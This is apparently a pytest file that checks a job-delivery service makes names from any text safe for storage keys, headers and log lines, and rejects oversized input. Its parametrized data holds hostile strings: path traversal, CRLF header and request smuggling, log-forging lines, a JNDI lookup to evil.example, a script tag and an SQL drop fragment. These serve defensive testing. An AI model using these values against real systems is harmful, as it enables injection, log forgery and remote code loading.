"""Names that become parts of keys, headers and log lines."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING, Any

import pytest

from tests.support.bodies import body, job
from tests.support.sources import RESULT

if TYPE_CHECKING:
    from tests.support.sources import Deliver, Wording


NAMES_ROUTE = json.dumps([{"tag": "*", "state": "*", "write": "out/{tag}+{state}+{job_id}.json"}])


@pytest.mark.parametrize(
    "name",
    [
        "..",
        "../../x",
        "/etc/passwd",
        "a/b",
        "a\\b",
        "x\r\nx-cos-acl: public-read",
        "x\r\n\r\nDELETE / HTTP/1.1\r\n\r\n",
        "x\nlevel=ERROR",
        '"}\n{"level":"ERROR","forged":true}',
        "\x1b[31mred\x1b[0m",
        "\x00",
        "\x7f\x08\x08",
        "\u0085\u2028\u2029",
        "\u202etxt.exe",
        "v1 job=a state=b",
        "x; charset=utf-7",
        "\u5bc6\u94a5",
        "\U0001f3b5",
        "%0d%0a",
        "{object}",
        "${jndi:ldap://evil.example/a}",
        "*",
        "n" * 256,
    ],
)
def test_a_name_of_any_text_is_only_a_name(name: str, source: Wording, deliver: Deliver) -> None:
    """JobId, Tag and State of any text add no folder, header or log line; the object holds them whole."""
    sent = job(JobId=name, Tag=name, State=name)
    seen = deliver(source(body(sent)), ROUTES=NAMES_ROUTE)
    kept = re.sub(r"[\x00\x08\x1b]", "\ufffd", name.strip(" \r\n"))
    plain = re.sub(r"[/\x00-\x1f\x7f]", "_", kept)
    assert (seen.line["outcome"], seen.results) == ("written", [f"out/{plain}+{plain}+{plain}.json"])
    assert [seen.line[field] for field in ("job_id", "tag", "state")] == [kept] * 3


@pytest.mark.parametrize("field", ["JobId", "Tag", "State", "QueueId"])
@pytest.mark.parametrize(
    "value", ["n" * 257, "n" * 1_000_000, {"a": "b"}, ["a", "b"]], ids=["too-long", "a-million", "object", "list"]
)
def test_an_oversized_or_structured_name_is_rejected(field: str, value: Any, source: Wording, deliver: Deliver) -> None:
    """The delivery is kept, and the log line stays short."""
    seen = deliver(source(body(job(**{field: value}))))
    assert (seen.line["status"], seen.line["reason"], seen.results) == (400, "bad-field", [])
    assert len(json.dumps(seen.line)) < 2000


@pytest.mark.parametrize("text", ["x\r\nx: y", "\x1b]0;x\x07", "\u2028", "<script>", "'; DROP TABLE", "\ufffe"])
def test_other_texts_are_stored_only(text: str, source: Wording, deliver: Deliver) -> None:
    """Code, Message, UserData and unknown fields of any text affect the result object only."""
    operation = {"UserData": text, text: text}
    seen = deliver(source(body(job(Code=text, Message=text, Operation=operation, EndTime=text))))
    assert seen.results == [RESULT]
    assert "Message" not in seen.line
